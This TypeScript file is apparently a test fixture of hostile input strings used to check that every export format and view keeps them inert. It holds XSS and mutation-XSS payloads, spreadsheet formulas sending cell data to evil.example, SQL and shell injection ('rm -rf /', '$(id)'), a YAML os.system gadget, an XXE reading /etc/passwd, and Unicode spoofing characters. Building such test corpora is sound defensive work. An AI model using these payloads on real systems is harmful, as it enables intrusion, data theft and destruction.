/** Words as somebody who means harm would write them. Each is a name, a body, a title or a note somewhere below. */

export interface HostileText {
  name: string;
  text: string;
}

const rightToLeft = '\u202e';
const woman = '\u{1f469}';
const joiner = '\u200d';

/** Every one must come out of every format and every view as the text that it is. */
export const hostileTexts: HostileText[] = [
  // markup
  { name: 'a script element', text: '<script>window.stolen = 1</script>' },
  { name: 'an image with a handler', text: '<img src=x onerror="window.stolen = 1">' },
  { name: 'an SVG that loads', text: '<svg onload=window.stolen=1><animate onbegin=window.stolen=1>' },
  { name: 'a frame of words', text: '<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>' },
  {
    name: 'an end of every element around it',
    text: '</p></div></article></body></textarea></title></style>--><b>out',
  },
  {
    name: 'a base and a form',
    text: '<base href="https://evil.example/"><form action="https://evil.example/"><input>',
  },
  {
    name: 'a stylesheet',
    text: '<style>*{background:url(https://evil.example/leak)}</style><link rel=stylesheet href=//e>',
  },
  { name: 'a meta refresh', text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'a root that a parser makes', text: '<template shadowrootmode=open><img src=x onerror=stolen=1></template>' },
  {
    name: 'buttons that order',
    text: '<button commandfor=x command=show-popover popovertarget=x>x</button><dialog open closedby=any>',
  },
  {
    name: 'rules to load ahead',
    text: '<script type=speculationrules>{"prefetch":[{"urls":["//e"]}]}</script><link rel=prefetch href=//e>',
  },
  { name: 'the end of all markup', text: '<plaintext><xmp><noembed><noframes><listing>' },
  {
    name: 'foreign objects',
    text: '<svg><foreignObject><iframe src=javascript:stolen=1></foreignObject><use href="data:image/svg+xml,x#x">',
  },
  {
    name: 'MathML that is HTML',
    text: '<math><annotation-xml encoding="text/html"><p><script>stolen=1</script></p></annotation-xml></math>',
  },
  {
    name: 'a select of anything',
    text: '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=stolen=1>',
  },
  {
    name: 'handlers of new events',
    text: '<p onscrollsnapchange=stolen=1 onbeforematch=stolen=1 oncontentvisibilityautostatechange=stolen=1 hidden=until-found>',
  },
  {
    name: 'an import map and a module',
    text: '<script type=importmap>{"imports":{"x":"data:text/javascript,stolen=1"}}</script><script type=module>import "x"</script>',
  },
  // mutation XSS: text that becomes other markup when a tree is written out and read again
  { name: 'mXSS by noscript', text: '<noscript><p title="</noscript><img src=x onerror=stolen=1>">' },
  {
    name: 'mXSS by MathML',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=stolen=1&gt;">',
  },
  { name: 'mXSS by SVG style', text: '<svg></p><style><a id="</style><img src=1 onerror=stolen=1>">' },
  {
    name: 'mXSS by a form in a form',
    text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=stolen=1>',
  },
  { name: 'mXSS by backquotes', text: '<img alt="``onmouseover=stolen=1 " src=x>' },
  { name: 'an attribute that ends early', text: `"' onmouseover='stolen=1' x="` },
  { name: 'references of characters', text: '&lt;script&gt;stolen=1&lt;/script&gt; &#x3c;b&#62; &amp;amp; &nbsp' },
  { name: 'a CDATA section', text: ']]><script>stolen=1</script><![CDATA[' },
  {
    name: 'a processing instruction and a comment',
    text: '<?xml version="1.0"?><!-- --!><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  },
  { name: 'templates of frameworks', text: '{{constructor.constructor("stolen=1")()}} <%= stolen %> #{7*7} @{stolen}' },
  // addresses
  { name: 'a javascript: address', text: 'javascript:window.stolen=1' },
  { name: 'a javascript: address with a tab', text: 'java\tscript:window.stolen=1' },
  { name: 'a data: address', text: 'data:text/html,<script>opener.stolen=1</script>' },
  // direction, look-alikes, what is not seen
  { name: 'a right-to-left override', text: `Said by ${rightToLeft}gnp.exe and never closed` },
  { name: 'isolates left open', text: '\u2066\u2067\u2068 left open \u202a\u202b\u202d' },
  { name: 'Cyrillic that looks Latin', text: '\u0410\u043d\u043d \u0412\u0435ll' },
  { name: 'zero-width characters', text: 'In\u200ba\u200c Ve\u200ds\u2060per\ufeff\u00ad' },
  { name: 'marks of direction everywhere', text: '\u200ea\u200f\u061cb\u202cc\u2069' },
  { name: 'notes between lines', text: 'a\ufff9b\ufffac\ufffbd' },
  { name: 'format characters of old', text: 'a\u206a\u206b\u206c\u206d\u206e\u206f\u180eb' },
  { name: 'letters that change in another case', text: 'İi ıI ß ẞ ŉ ǰ ﬃ Σς' },
  { name: 'the same letters, made otherwise', text: 'Am\u00e9lie Ame\u0301lie \u212b \u00c5 A\u030a \u1e9b\u0323' },
  { name: 'digits of other scripts', text: '١٢٣ १२३ １２３ 𝟏𝟐𝟑 Ⅻ ㊿' },
  { name: 'the widest signs', text: '﷽﷽﷽ 𒐫𒐫𒐫 ⸻⸻⸻ ꧅꧅꧅' },
  { name: 'nothing but marks', text: '\u0301\u0489\u20dd' },
  { name: 'private signs', text: '\ue000\uf8ff\u{f0000}\u{10fffd}' },
  { name: 'joiners without anything to join', text: '\u200d\u200d\u{1f469}\u200d \u200d\u{1f467}\u200d\u200d' },
  { name: 'tag characters', text: 'seen \u{e0068}\u{e0069}\u{e0064} unseen' },
  { name: 'nothing but what is not seen', text: '\u2800\u3164\u115f' },
  { name: 'variation selectors', text: `a${'\ufe0f\u{e0100}'.repeat(200)}b` },
  { name: '500 marks on one letter', text: `Z${'\u0351\u0310\u031b\u0489'.repeat(125)}algo` },
  { name: 'a family of joined people', text: [woman, woman, '\u{1f467}', '\u{1f466}'].join(joiner).repeat(30) },
  { name: 'flags and skin tones', text: '\u{1f1e9}\u{1f1ea}\u{1f44d}\u{1f3fd}'.repeat(20) },
  { name: 'a lone high surrogate', text: 'before \ud83d after' },
  { name: 'a lone low surrogate', text: 'before \udc69 after' },
  { name: 'surrogates the wrong way round', text: '\udc69\ud83d' },
  { name: 'controls', text: 'a\u0001b\u0007c\u001bd\u001b[31me\u007ff\u009bg' },
  { name: 'NUL', text: 'a\u0000b' },
  { name: 'the separators of the record', text: 'a\u001fb\u001ec\u001dd' },
  { name: 'separators of lines', text: 'one\u2028two\u2029three\u0085four\u000bfive\u000csix' },
  { name: 'carriage returns', text: 'one\r\ntwo\rthree' },
  { name: 'noncharacters', text: 'a\ufffeb\uffffc\u{1fffe}d' },
  // other languages of files
  { name: 'a formula', text: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
  { name: 'a formula after an apostrophe', text: "'=1+1" },
  { name: 'a formula after two apostrophes', text: "''@SUM(A1)" },
  { name: 'a formula with a plus', text: '+1+cmd|" /C calc"!A0' },
  { name: 'a formula with a minus', text: '-2+3' },
  { name: 'a formula with an at', text: '@SUM(1+9)*cmd|" /C calc"!A0' },
  { name: 'a formula in wide signs', text: '\uff1d1+1' },
  { name: 'a formula behind a space that is not seen', text: '\u200b\u00a0=1+1' },
  { name: 'a formula between semicolons', text: 'Ask them;=1+1; and they tell' },
  { name: 'a formula between tabs', text: 'Ask them\t=HYPERLINK(A1)\tand they tell' },
  { name: 'a formula on a line of its own', text: 'They list:\n=1+1\n\n@SUM(A1)\n- one' },
  { name: 'apostrophes where formulas could begin', text: "Ask;'=1+1;''@x\n'-y" },
  { name: 'a call to another program', text: "=cmd|'/C calc'!A0" },
  { name: 'quotes, separators and line ends', text: 'a","b";c\n"d' },
  {
    name: 'Markdown',
    text: '# Head\n\n* list\n1. one\n> quote\n```\ncode\n```\n[x](javascript:alert(1)) ![x](https://e/x.png)',
  },
  { name: 'Markdown rules and headings', text: 'Head\n---\nHead\n===\n***\n___\n\n- - -' },
  {
    name: 'Markdown tables, notes and sums',
    text: '| a | b |\n|---|---|\n[[Other note]] ![[File]] %%x%% $x$ ==m== ~~s~~ [^1]',
  },
  { name: 'the front of a note', text: '---\naliases: [x]\n---' },
  {
    name: 'a note that calls itself to arms',
    text: '> [!danger] Read\n!!! note\n: term\nkey:: value ^block #tag @mention',
  },
  {
    name: 'code of notebooks',
    text: '`= this.file.name` <% tp.file.title %> {{date}} {% include x %} `$= dv.view(1)`',
  },
  { name: 'mathematics', text: '$$\\input{/etc/passwd}$$ \\href{javascript:stolen=1}{x} \\[ x \\]' },
  { name: 'a link to a program', text: 'obsidian://open?vault=x ms-msdt:/id slack://x <tel:0800>' },
  // other languages of programs
  { name: 'what stands for a match', text: "$& $1 $$ $` $' $<name> \\1 \\k<name>" },
  { name: 'placeholders', text: '%s %n %x {0} {name} #{stolen} {{name}} {count, plural, one {x}}' },
  { name: 'a query', text: '\'; DROP TABLE statements; -- " OR 1=1 /*' },
  { name: 'a command', text: '; rm -rf / | cat `id` $(id) && calc.exe' },
  { name: 'heads of a mail', text: 'Ina\r\nBcc: all@mill.example\r\n\r\n<b>x' },
  { name: 'YAML', text: '!!python/object/apply:os.system ["id"] &a *a | > - ? : yes no ~ 0o7' },
  { name: 'escapes that are none', text: '\\u003cscript\\u003e \\x3c %3Cscript%3E \\74 &#60 \\0' },
  {
    name: 'a link of a terminal',
    text: '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u001b]0;title\u0007\u009d',
  },
  { name: 'a key that every object has', text: '__proto__' },
  { name: 'another such key', text: 'constructor' },
  { name: 'a line of a backup', text: '{"manifest":{"entries":0,"sha256":"0"}}\n{"aforesaid":"record","version":1}' },
];

/** What of a text a reader of files may even out: line ends, and white space at the ends of lines. */
export const evened = (text: string): string =>
  text
    .replace(/\r\n?/g, '\n')
    .replace(/[^\S\n]+$/gm, '')
    .replace(/^[^\S\n]+/gm, '')
    .replace(/\n{3,}/g, '\n\n')
    .trim();
